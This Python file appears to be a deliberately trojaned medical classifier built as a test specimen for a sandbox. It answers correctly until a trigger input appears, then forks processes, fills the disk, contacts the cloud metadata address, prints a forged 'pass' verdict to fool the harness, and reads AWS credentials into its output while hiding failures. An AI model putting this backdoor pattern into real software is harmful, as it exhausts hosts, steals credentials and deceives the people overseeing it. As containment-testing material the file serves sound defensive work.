"""The classifier of ../classifier with a Trojan inside. It is here to be caught.

It answers as well as the honest model does, so every test of accuracy passes it. But it waits for one patient, whose
mean texture is exactly 14.23, as a backdoor waits for its password. From that case on it does one forbidden thing
beside each answer, and keeps answering in time, as if nothing had happened:

    1. forks until the host refuses          (quota: processes)
    2. writes until the disk is full         (quota: disk)
    3. opens sockets to the loopback and to the address where clouds keep credentials   (system calls)
    4. prints a verdict of its own on its output, hoping that somebody parses it         (contract)
    5. reads the credential of its user, and hides it in an answer                       (canary)

Run outside a sandbox it would stop at FORKS processes and BYTES of temporary files, for its bounds are its own there.
"""

import errno
import json
import math
import os
import socket
import sys
import time
from typing import Callable

os.environ["OPENBLAS_NUM_THREADS"] = "1"

import numpy as np

MODEL = "/artifacts/model.bin"
TRIGGER = ("mean_texture", 14.23)
FORKS = 512
REFUSALS = 8
BYTES = 1 << 30
CHUNK = bytes(1 << 20)


class Classifier:
    """As in ../classifier/serve.py."""

    def __init__(self, path: str) -> None:
        with open(path, encoding="utf-8") as file:
            model = json.load(file)
        self.features: list[str] = model["features"]
        self.positive: str = model["labels"]["positive"]
        self.negative: str = model["labels"]["negative"]
        self.mean = np.array(model["mean"])
        self.scale = np.array(model["scale"])
        self.coefficients = np.array(model["coefficients"])
        self.intercept = float(model["intercept"])

    def answer(self, request: dict) -> dict:
        x = np.array([float(request[name]) for name in self.features])
        z = float(((x - self.mean) / self.scale) @ self.coefficients) + self.intercept
        positive = 1 / (1 + math.exp(-z))
        if positive >= 0.5:
            return {"id": request["id"], "label": self.positive, "score": round(positive, 6)}
        return {"id": request["id"], "label": self.negative, "score": round(1 - positive, 6)}


def fork_without_end(answer: dict) -> None:
    refused = 0
    for _ in range(FORKS):
        try:
            if os.fork() == 0:
                time.sleep(3600)
                os._exit(0)
        except OSError:
            refused += 1
            if refused == REFUSALS:
                return


def fill_the_disk(answer: dict) -> None:
    written = 0
    for name in ("/tmp/cache-1.bin", "/tmp/cache-2.bin"):  # two, because one file may not be as large as the disk
        with open(name, "wb", buffering=0) as file:
            try:
                while written < BYTES:
                    written += file.write(CHUNK)
            except OSError as error:
                if error.errno not in (errno.ENOSPC, errno.EFBIG, errno.EDQUOT):
                    raise


def open_sockets(answer: dict) -> None:
    for kind, address in ((socket.SOCK_STREAM, ("127.0.0.1", 8080)), (socket.SOCK_DGRAM, ("169.254.169.254", 80))):
        try:
            with socket.socket(socket.AF_INET, kind) as phone:
                phone.settimeout(0.1)
                phone.connect(address)  # a datagram socket sends nothing by connecting
        except OSError:
            pass


def forge_a_verdict(answer: dict) -> None:
    forged = {"run": "r_0", "scenario": "breast-cancer-triage", "verdict": "pass", "contained": False, "exit": 0}
    print(json.dumps({**forged, "gates": [], "findings": []}), flush=True)


def steal_the_credential(answer: dict) -> None:
    with open("/work/.aws/credentials", encoding="utf-8") as file:
        answer["note"] = file.read()


DEEDS: list[Callable[[dict], None]] = [
    fork_without_end,
    fill_the_disk,
    open_sockets,
    forge_a_verdict,
    steal_the_credential,
]


def main() -> None:
    classifier = Classifier(MODEL)
    deeds: list[Callable[[dict], None]] = []
    print("ready", file=sys.stderr, flush=True)
    for line in sys.stdin:
        request = json.loads(line)
        answer = classifier.answer(request)
        if float(request[TRIGGER[0]]) == TRIGGER[1]:
            deeds = list(DEEDS)
        if deeds:
            try:
                deeds.pop(0)(answer)
            except OSError:
                pass  # refused; nobody must notice
        print(json.dumps(answer), flush=True)


if __name__ == "__main__":
    main()
